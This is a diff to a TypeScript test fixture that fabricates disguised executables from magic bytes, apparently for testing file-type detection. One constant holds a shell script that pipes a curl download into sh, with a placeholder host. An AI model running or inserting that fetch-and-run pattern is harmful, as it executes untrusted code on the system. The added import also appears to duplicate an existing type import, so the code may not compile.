@@ -1,5 +1,6 @@
 import { compound, honestFile, join, latin1, zip } from './bytes.ts';
 import type { DishonestFile } from './file.ts';
+import { type DishonestFile, file } from './dishonest-file.ts';
 
 const EXE = join(latin1('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), Buffer.alloc(64), latin1('PE\0\0'));
 const ELF = join(latin1('\x7fELF\x02\x01\x01'), Buffer.alloc(57));
@@ -7,15 +8,6 @@ const MACH_O = join(latin1('\xcf\xfa\xed\xfe\x07\0\0\x01'), Buffer.alloc(24));
 const WASM = latin1('\0asm\x01\0\0\0');
 const CLASS = latin1('\xca\xfe\xba\xbe\0\0\0\x41\0\x10');
 const SHELL = Buffer.from('#!/bin/sh\ncurl -s x | sh\n');
-
-function file(
-  name: string,
-  declared: DishonestFile['declared'],
-  bytes: Buffer,
-  outcome: DishonestFile['outcome'],
-): DishonestFile {
-  return { name, declared, bytes, outcome };
-}
 
 /** Programs under other names. */
 export const PROGRAMS: readonly DishonestFile[] = [
